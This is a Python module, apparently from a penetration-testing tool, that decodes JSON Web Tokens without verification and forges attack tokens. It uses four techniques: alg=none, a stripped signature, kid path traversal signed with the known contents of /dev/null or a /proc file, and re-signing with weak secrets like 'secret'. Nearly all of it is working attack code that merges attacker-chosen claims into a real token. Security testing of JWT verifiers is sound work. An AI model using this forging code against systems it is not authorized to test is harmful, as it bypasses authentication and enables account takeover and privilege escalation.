"""JWT inspection and forging.

Deliberately hand-rolled on the stdlib: mainstream JWT libraries refuse to
mint the malformed tokens these techniques need (alg none, stripped
signature, attacker-chosen kid). Decoding here never validates signatures;
whether the target honors a forged token is the test, not our job.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from dataclasses import dataclass, field
from enum import Enum

from .errors import TokenFormatError


class ForgeTechnique(str, Enum):
    ALG_NONE = "alg_none"
    KID_PATH_TRAVERSAL = "kid_path_traversal"
    SIGNATURE_STRIP = "signature_strip"
    RESIGN_WEAK_KEY = "resign_weak_key"


@dataclass(frozen=True)
class KidCandidate:
    """A kid value pointing at a file with predictable content.

    If the verifier loads the HMAC key from the path in 'kid', signing with
    the file's known content produces a valid signature.
    """

    path: str
    key: bytes
    note: str


# World-readable files with stable content on stock Linux.
DEFAULT_KID_CANDIDATES: tuple[KidCandidate, ...] = (
    KidCandidate("../../../../../../dev/null", b"", "empty file, key is b''"),
    KidCandidate(
        "../../../../../../proc/sys/kernel/randomize_va_space",
        b"2\n",
        "ASLR sysctl, ships as '2' on stock kernels",
    ),
)

DEFAULT_WEAK_SECRETS: tuple[str, ...] = ("secret", "password", "changeme", "jwt-secret", "123456")


@dataclass(frozen=True)
class ForgedToken:
    technique: ForgeTechnique
    value: str
    header: dict = field(default_factory=dict)
    claims: dict = field(default_factory=dict)
    note: str = ""


def b64url_encode(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode("ascii")


def b64url_decode(seg: str) -> bytes:
    pad = -len(seg) % 4
    try:
        return base64.urlsafe_b64decode(seg + "=" * pad)
    except (binascii.Error, ValueError) as exc:
        raise TokenFormatError(f"segment is not base64url: {exc}") from None


def decode_token(token: str) -> tuple[dict, dict, str]:
    """Split a compact JWT into (header, claims, signature_b64).

    No signature check, no alg allowlist; an empty signature segment is
    accepted. Raises TokenFormatError when the structure itself is broken.
    """
    parts = token.split(".")
    if len(parts) != 3:
        raise TokenFormatError(f"expected 3 dot-separated segments, got {len(parts)}")
    header_b, claims_b = b64url_decode(parts[0]), b64url_decode(parts[1])
    try:
        header = json.loads(header_b)
        claims = json.loads(claims_b)
    except json.JSONDecodeError as exc:
        raise TokenFormatError(f"segment is not JSON: {exc}") from None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        raise TokenFormatError("header and claims must be JSON objects")
    return header, claims, parts[2]


def _compact(header: dict, claims: dict, sig: bytes | None) -> str:
    h = b64url_encode(json.dumps(header, separators=(",", ":")).encode())
    c = b64url_encode(json.dumps(claims, separators=(",", ":")).encode())
    s = b64url_encode(sig) if sig else ""
    return f"{h}.{c}.{s}"


def _hs256(signing_input: str, key: bytes) -> bytes:
    return hmac.new(key, signing_input.encode("ascii"), hashlib.sha256).digest()


def forge_token(
    base_token: str,
    technique: ForgeTechnique | str,
    claim_overrides: dict | None = None,
    kid_candidate: KidCandidate | None = None,
    weak_secret: str | None = None,
) -> ForgedToken:
    """Derive an attack token from a legitimately issued one.

    Claims are the base token's claims merged with claim_overrides (overrides
    win). The result is re-decoded before returning; a mint that does not
    round-trip is a bug, not a test outcome.
    """
    technique = ForgeTechnique(technique)
    base_header, base_claims, _ = decode_token(base_token)
    claims = dict(base_claims)
    claims.update(claim_overrides or {})

    if technique == ForgeTechnique.ALG_NONE:
        header = {"alg": "none", "typ": "JWT"}
        value = _compact(header, claims, None)
        note = "alg=none with empty signature"
    elif technique == ForgeTechnique.SIGNATURE_STRIP:
        header = dict(base_header)
        value = _compact(header, claims, None)
        note = "original header, signature segment emptied"
    elif technique == ForgeTechnique.KID_PATH_TRAVERSAL:
        cand = kid_candidate or DEFAULT_KID_CANDIDATES[0]
        header = {"alg": "HS256", "typ": "JWT", "kid": cand.path}
        h = b64url_encode(json.dumps(header, separators=(",", ":")).encode())
        c = b64url_encode(json.dumps(claims, separators=(",", ":")).encode())
        value = f"{h}.{c}." + b64url_encode(_hs256(f"{h}.{c}", cand.key))
        note = f"kid={cand.path} ({cand.note})"
    elif technique == ForgeTechnique.RESIGN_WEAK_KEY:
        secret = weak_secret if weak_secret is not None else DEFAULT_WEAK_SECRETS[0]
        header = {"alg": "HS256", "typ": "JWT"}
        h = b64url_encode(json.dumps(header, separators=(",", ":")).encode())
        c = b64url_encode(json.dumps(claims, separators=(",", ":")).encode())
        value = f"{h}.{c}." + b64url_encode(_hs256(f"{h}.{c}", secret.encode()))
        note = f"re-signed with weak secret {secret!r}"
    else:  # pragma: no cover - enum is closed
        raise TokenFormatError(f"unknown technique {technique}")

    got_header, got_claims, _ = decode_token(value)
    if got_claims != claims or got_header != header:
        raise TokenFormatError("forged token failed its own round-trip check")
    return ForgedToken(technique=technique, value=value, header=header, claims=claims, note=note)
